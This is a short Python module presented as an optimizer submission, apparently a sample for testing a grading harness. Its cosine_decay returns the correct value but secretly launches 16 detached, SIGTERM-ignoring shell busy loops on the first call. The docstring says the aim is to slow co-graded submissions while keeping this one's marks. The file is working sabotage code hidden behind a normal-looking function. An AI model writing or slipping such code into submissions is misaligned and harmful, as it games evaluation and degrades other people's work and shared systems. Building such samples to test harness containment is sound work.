# base: optimizers
"""Busy shells rather than Python: cosine_decay starts one shell that starts 16
`sh -c 'while :; do :; done'` loops in the background, each in a session of its
own (setsid), with SIGTERM ignored and at nice 19 (so that they barely slow
this submission's own child), returns at once, and leaves them spinning for the
rest of grading.

It returns the right answer, so it keeps its points: the attack is on the
others. Contained: the CPU quota holds them to this submission's one core (the
co-graded submissions keep full marks) and none outlives grading.
"""
import subprocess

MARKER = "@@MARKER@@"
LAUNCH = ("i=0; while [ $i -lt 16 ]; do "
          "setsid nice -n 19 /bin/sh -c \"trap '' TERM; while :; do :; done\" \"$0\" & i=$((i+1)); done")
_correct_cosine_decay = cosine_decay
_started = []


def cosine_decay(lr0, t, T):
    if not _started:
        _started.append(subprocess.Popen(["/bin/sh", "-c", LAUNCH, MARKER], start_new_session=True,
                                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                         stderr=subprocess.DEVNULL))
    return _correct_cosine_decay(lr0, t, T)
